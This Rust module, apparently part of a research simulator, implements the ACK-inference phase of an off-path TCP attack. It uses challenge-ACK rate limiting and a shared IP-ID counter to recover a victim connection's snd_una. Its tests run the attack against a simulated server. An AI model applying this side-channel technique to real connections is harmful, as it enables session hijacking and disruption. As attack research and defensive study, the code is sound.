//! ACK-number inference: recover `snd_una` from the challenge-window
//! geometry.
//!
//! Walking an ACK value backwards from a known challenge point, responses
//! stay "challenge" until the back-distance crosses 2^31 and falls into the
//! silently-dropped future-ACK zone. The first silent offset δ* satisfies
//! `snd_una = ack_challenge + 2^31 - δ*`, and every probe on the silent
//! side is guaranteed dropped — never accidentally acceptable — so the
//! search cannot disturb the connection.

use std::net::Ipv4Addr;

use crate::attacker::observe::ObservationStream;
use crate::attacker::{AttackConfig, AttackerIo, FailureReason, Phase};
use crate::net::packet::{Packet, TcpFlags, TcpSegment};

const PROBE_SPACING_MS: u64 = 25;

/// Re-reads of a lost counter view before a verdict is abandoned. Each
/// retry waits out the challenge limiter first: the lost read may have
/// consumed it, and re-reading earlier would turn a challenged offset into
/// a silent-looking one and derail the boundary search.
const SPAN_RETRIES: u32 = 4;

fn ack_probe(cfg: &AttackConfig, port: u16, seq: u32, ack: u32) -> Packet {
    let seg = TcpSegment::new(port, cfg.server_port, seq, ack, TcpFlags::ACK);
    Packet::tcp(cfg.client, cfg.server, 0, true, seg)
}

fn rearm(io: &mut AttackerIo<'_>, cfg: &AttackConfig, stream: &mut ObservationStream) {
    let t = io.now() + cfg.challenge_ack_interval_ms + 20;
    stream.pump_until(io, t);
}

fn probed_extra(
    io: &mut AttackerIo<'_>,
    stream: &mut ObservationStream,
    probes: &[Packet],
    spacing_ms: u64,
) -> Option<i64> {
    let cut_a = stream.last_sent();
    for (i, p) in probes.iter().enumerate() {
        if i > 0 {
            stream.pump_until(io, io.now() + spacing_ms);
        }
        io.send(p.clone());
    }
    let cut_b = stream.pump_one_echo(io);
    let deadline = stream.sent_time(cut_b) + io.settle_ms() + 40;
    stream.settle_extra(io, cut_a, cut_b, deadline)
}

/// Recover `snd_una` given the exact `rcv_nxt` (used as the probe sequence
/// so every probe reaches ACK processing) and one challenge-window ACK
/// value. Binary search on the offset δ where challenges stop; waits out
/// the challenge limiter only after steps that drew one.
pub fn detect_acceptable_ack(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
    seq_exact: u32,
    ack_ch: u32,
) -> Result<u32, FailureReason> {
    let deadline = io.now() + cfg.timeout(Phase::AckInference);
    let icmp_id = 0x7008 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    rearm(io, cfg, &mut stream);

    // P(δ): does ack_ch - δ still draw a challenge?
    let challenged = |io: &mut AttackerIo<'_>,
                      stream: &mut ObservationStream,
                      cfg: &AttackConfig,
                      delta: u32|
     -> Option<bool> {
        let ack = ack_ch.wrapping_sub(delta);
        let probes = [ack_probe(cfg, port, seq_exact, ack), ack_probe(cfg, port, seq_exact, ack)];
        let d = probed_extra(io, stream, &probes, PROBE_SPACING_MS)?;
        Some(d >= 1)
    };
    let challenged_retry = |io: &mut AttackerIo<'_>,
                            stream: &mut ObservationStream,
                            cfg: &AttackConfig,
                            delta: u32|
     -> Result<bool, FailureReason> {
        for attempt in 0..=SPAN_RETRIES {
            if attempt > 0 {
                rearm(io, cfg, stream);
            }
            if let Some(v) = challenged(io, stream, cfg, delta) {
                return Ok(v);
            }
        }
        Err(FailureReason::NoBoundary)
    };

    // endpoints: δ=0 must challenge, δ=2^31 must be silent
    let mut lo_ok = false;
    for _ in 0..=cfg.retry_on_ambiguity {
        if challenged_retry(io, &mut stream, cfg, 0)? {
            lo_ok = true;
            break;
        }
        rearm(io, cfg, &mut stream);
    }
    if !lo_ok {
        io.note("claimed challenge-window ack drew nothing; boundary search aborted");
        return Err(FailureReason::NoBoundary);
    }
    rearm(io, cfg, &mut stream);
    if challenged_retry(io, &mut stream, cfg, 1 << 31)? {
        io.note("far side of the ack space still draws challenges");
        return Err(FailureReason::NoBoundary);
    }

    let mut lo: u32 = 0; // challenges
    let mut hi: u32 = 1 << 31; // silent
    while hi - lo > 1 {
        let mid = lo + (hi - lo) / 2;
        if challenged_retry(io, &mut stream, cfg, mid)? {
            lo = mid;
            rearm(io, cfg, &mut stream);
        } else {
            hi = mid;
        }
        if io.now() > deadline {
            return Err(FailureReason::Timeout(Phase::AckInference));
        }
    }
    // back-distance of ack_ch from snd_una is 2^31 - δ*
    Ok(ack_ch.wrapping_sub(hi).wrapping_add(1 << 31))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::net::rng::{stream_rng, StreamId};
    use crate::net::sim::{AddrSet, HostId, Simulation};
    use crate::victim::endpoint::{EndpointConfig, FourTuple};
    use crate::victim::host::VictimHost;
    use crate::victim::ipid::PolicyVariant;
    use crate::victim::pmtud::PmtudConfig;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    const SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const CLIENT: Ipv4Addr = Ipv4Addr::new(172, 16, 0, 9);
    const POOL: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);
    const PORT: u16 = 42_777;

    fn build(seed: u64, rcv_nxt: u32, snd_una: u32) -> (Simulation, HostId, HostId, AttackConfig) {
        let mut sim = Simulation::new(stream_rng(seed, StreamId::LinkLoss), false);
        let mut ecfg = EndpointConfig::default();
        ecfg.listening_ports.insert(22);
        let mut victim = VictimHost::new(
            SERVER,
            PolicyVariant::MixedDfBased,
            ecfg,
            PmtudConfig::default(),
            ChaCha8Rng::seed_from_u64(seed ^ 0xd4d4),
        );
        let tuple = FourTuple { peer_addr: CLIENT, peer_port: PORT, local_port: 22 };
        victim.install_established(tuple, rcv_nxt.wrapping_sub(1), rcv_nxt, snd_una, snd_una);
        victim.routes_mut().set(
            CLIENT,
            crate::victim::pmtud::RouteCacheEntry { pmtu: 552, df_cleared: true },
        );
        let vid = sim.add_reactive_host("server", AddrSet::single(SERVER), Box::new(victim));
        let mut addrs = AddrSet::single(POOL);
        addrs.add_block(POOL, 16_384);
        let aid = sim.add_mailbox_host("attacker", addrs);
        let cfg = AttackConfig::new(SERVER, 22, CLIENT, POOL, 16_384);
        (sim, vid, aid, cfg)
    }

    fn collider_for(sim: &Simulation, vid: HostId, cfg: &AttackConfig) -> Ipv4Addr {
        let v = sim.host_state::<VictimHost>(vid).unwrap();
        let want = v.assigner().index_for(SERVER, CLIENT, crate::net::packet::Protocol::Tcp);
        (0..cfg.addr_pool_size)
            .map(|i| cfg.pool_addr(i))
            .find(|c| v.assigner().index_for(SERVER, *c, crate::net::packet::Protocol::Icmp) == want)
            .expect("pool of 16384 should collide somewhere")
    }

    fn run_case(seed: u64, rcv_nxt: u32, snd_una: u32, back0: u32) {
        let (mut sim, vid, aid, cfg) = build(seed, rcv_nxt, snd_una);
        let collider = collider_for(&sim, vid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        io.measure_rtt(POOL, SERVER);
        let ack_ch = snd_una.wrapping_sub(back0);
        let got = detect_acceptable_ack(&mut io, &cfg, collider, PORT, rcv_nxt, ack_ch)
            .expect("boundary search must converge");
        assert_eq!(got, snd_una, "seed {seed}: got {got:#x} want {snd_una:#x}");
    }

    #[test]
    fn recovers_snd_una_exactly_mid_window() {
        run_case(71, 0x4000_0000, 0x8888_0000, 0x0100_0000);
    }

    #[test]
    fn recovers_snd_una_near_window_edges() {
        // challenge point barely inside the window on each side
        run_case(72, 0x1111_1111, 0x2222_2222, 65_537);
        run_case(73, 0xfefe_fefe, 0x0101_0101, (1 << 31) - 2);
    }

    #[test]
    fn wrong_window_claim_is_rejected_not_misread() {
        let rcv_nxt = 0x5050_5050u32;
        let snd_una = 0x6060_6060u32;
        let (mut sim, vid, aid, cfg) = build(74, rcv_nxt, snd_una);
        let collider = collider_for(&sim, vid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        io.measure_rtt(POOL, SERVER);
        // an ack in the *acceptable* zone draws no challenge at δ=0
        let bogus = snd_una.wrapping_sub(100);
        let r = detect_acceptable_ack(&mut io, &cfg, collider, PORT, rcv_nxt, bogus);
        assert_eq!(r, Err(FailureReason::NoBoundary));
    }
}
